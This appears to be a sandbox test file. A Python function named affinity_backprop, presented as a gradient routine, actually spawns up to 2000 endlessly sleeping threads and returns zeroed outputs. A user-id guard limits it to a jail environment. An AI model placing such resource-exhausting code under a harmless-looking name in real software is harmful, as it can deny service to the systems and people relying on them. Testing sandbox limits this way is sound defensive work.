# Starts threads without end.
import _thread
import os
import time

if os.getuid() < 20_000:
    raise SystemExit  # this one is for the jail alone


def work():
    while True:
        time.sleep(1)


def affinity_backprop(M, b, x, dy):
    started = 0
    for _ in range(2000):
        try:
            _thread.start_new_thread(work, ())
            started += 1
        except RuntimeError:
            pass
    return 0 * x, 0 * M, 0 * b
